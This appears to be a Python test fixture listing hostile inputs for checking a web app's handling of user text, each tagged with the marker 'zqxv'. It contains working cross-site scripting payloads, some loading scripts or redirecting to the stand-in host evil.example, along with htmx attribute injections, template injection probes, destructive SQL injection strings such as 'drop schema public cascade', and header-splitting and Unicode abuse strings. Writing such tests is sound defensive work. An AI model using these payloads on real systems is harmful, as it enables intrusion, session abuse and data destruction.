"""What somebody types who wants more than to be read."""

from __future__ import annotations

MARKER = "zqxv"  # in every script below; nothing of ours has it

SCRIPTS = [
    *("<script>zqxv()</script>", "<ScRiPt src=//evil.example/zqxv.js></ScRiPt>", "<scr<script>ipt>zqxv()</script>"),
    *(
        "<img src=x onerror=zqxv()>",
        "<img/src/onerror=zqxv()>",
        "<img src='x'onerror='zqxv()'",
        "<IMG SRC=javascript:zqxv()>",
    ),
    *(
        "<svg onload=zqxv()>",
        "<svg/onload=zqxv()//",
        "<svg><script>zqxv()</script>",
        "<svg><a xlink:href=javascript:zqxv()>zqxv",
    ),
    *("<math><mi xlink:href='javascript:zqxv()'>", "<math><mtext><table><mglyph><style><img src onerror=zqxv()>"),
    *("<iframe srcdoc='<script>zqxv()</script>'>", "<iframe src=javascript:zqxv()>", "<object data=javascript:zqxv()>"),
    *(
        "<embed src=javascript:zqxv()>",
        "<base href=//evil.example/zqxv>",
        "<link rel=stylesheet href=//evil.example/zqxv>",
    ),
    *(
        "<meta http-equiv=refresh content='0;url=//evil.example/zqxv'>",
        "<form action=//evil.example/zqxv><input name=a>",
    ),
    *(
        "<body onload=zqxv()>",
        "<details open ontoggle=zqxv()>",
        "<video><source onerror=zqxv()>",
        "<audio src onerror=zqxv()>",
    ),
    *(
        "<marquee onstart=zqxv()>",
        "<input autofocus onfocus=zqxv()>",
        "<select autofocus onfocus=zqxv()>",
        "<style>@import'zqxv'",
    ),
    *(
        "<a href=javascript:zqxv()>zqxv</a>",
        "<a href='java\tscript:zqxv()'>zqxv",
        "<a href=data:text/html,zqxv>zqxv</a>",
    ),
    *("<template><script>zqxv()</script></template>", "<noscript><p title='</noscript><img src onerror=zqxv()>'>"),
    *("</title><script>zqxv()</script>", "</textarea><script>zqxv()</script>", "</style><script>zqxv()</script>"),
    *("--><script>zqxv()</script>", "]]><script>zqxv()</script>", "<!--><img src onerror=zqxv()>-->", "<?xml zqxv?>"),
    *(
        '" onmouseover="zqxv()',
        "' onmouseover='zqxv()",
        "` onmouseover=`zqxv()",
        '"><script>zqxv()</script>',
        "'><img src=zqxv>",
    ),
    *(
        '" autofocus onfocus=zqxv() x="',
        '" style="background:url(//evil.example/zqxv)',
        "&lt;script&gt;zqxv()&lt;/script&gt;",
    ),
    *("&#60;script&#62;zqxv()&#60;/script&#62;", "%3Cscript%3Ezqxv()%3C/script%3E", "\\u003cscript\\u003ezqxv()"),
    *(
        "＜script＞zqxv()＜/script＞",
        "<\u200bscript>zqxv()</script>",
        "<a\u00a0href=javascript:zqxv()>",
        "ʺ><img src=zqxv>",
    ),
    *("jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=zqxv() )//", "javascript://%0aalert(zqxv)", "vbscript:zqxv()"),
]
# Attributes and elements that htmx acts on.
HTMX = [
    *(
        '<p hx-get="/zqxv" hx-trigger="load">',
        '<p data-hx-get="/zqxv" data-hx-trigger="load">',
        '<p hx-on:load="zqxv()">',
    ),
    *(
        '"><p hx-swap-oob="true" id="messages">zqxv',
        '<hx-partial hx-target="body">zqxv</hx-partial>',
        '<p hx-ws:connect="//zqxv">',
    ),
    *(
        '" hx-post="/agent/logout" hx-trigger="load" x="',
        '<template hx type="partial">zqxv',
        '<p hx-vals="js:{a:zqxv()}">',
    ),
]
TEMPLATES = [
    *(
        "{{7*7}}zqxv",
        "{{ config }}zqxv",
        "{% if 1 %}zqxv{% endif %}",
        "{#zqxv#}",
        "${7*7}zqxv",
        "#{7*7}zqxv",
        "<%= 7*7 %>zqxv",
    ),
    *(
        "{{''.__class__.__mro__}}zqxv",
        "{{constructor.constructor('zqxv()')()}}",
        "%(zqxv)s",
        "{zqxv}",
        "{0.__class__}zqxv",
        "%n%szqxv",
    ),
]
FRAMES = [
    *(
        '{"content":"<b>zqxv</b>","target":"body"}',
        '{"event":"reset","zqxv":1}',
        "zqxv null",
        '{"__proto__":{"zqxv":1}}',
        '["zqxv"]',
    ),
    *('{"hello":true,"ticket":1,"zqxv":1}', '{"channel":"zqxv","html":"<b>"}', "zqxv\n\ndata: x", "\x1ezqxv"),
]
SQL = [
    *(
        "' or '1'='1' --zqxv",
        "'; drop table tickets; --zqxv",
        "zqxv\\'; select pg_sleep(9); --",
        "1) union select null,zqxv--",
    ),
    *(
        'zqxv"; delete from agents; --',
        "zqxv$$; drop schema public cascade; $$",
        "%zqxv%_%",
        "zqxv,id.gte.0",
        "zqxv)a(*",
    ),
]
LINES = [
    *(
        "zqxv\r\nSet-Cookie: a=zqxv",
        "zqxv\nLocation: //evil.example",
        "zqxv%0d%0aX-Zqxv: 1",
        "zqxv\x1b[2J\x1b]0;zqxv\x07",
        "zqxv\u2028\u2029zqxv",
    ),
    *("zqxv\x85zqxv", "zqxv\x0b\x0czqxv", '"zqxv", "level": "error', "zqxv\u560d\u560aX-Zqxv: 1"),
]
UNICODE = [
    *(
        "zqxv\u202egnp.exe",
        "zqxv" + "\u0301" * 5000,
        "zqxv\u0600\u0605" * 500,
        "zqxv\ufdfa" * 1000,
        "zqxv\U0001f469\u200d" * 300,
    ),
    *(
        "\u2066zqxv\u2067zqxv\u2068",
        "zqxv\u00ad\ufeff\u200bzqxv",
        "zqxv" + "\u0e47" * 500,
        "ǅzqxvıſK",
        "zqxv\U000e0001\U000e0041",
    ),
]
EVERYTHING = [*SCRIPTS, *HTMX, *TEMPLATES, *FRAMES, *SQL, *LINES, *UNICODE]
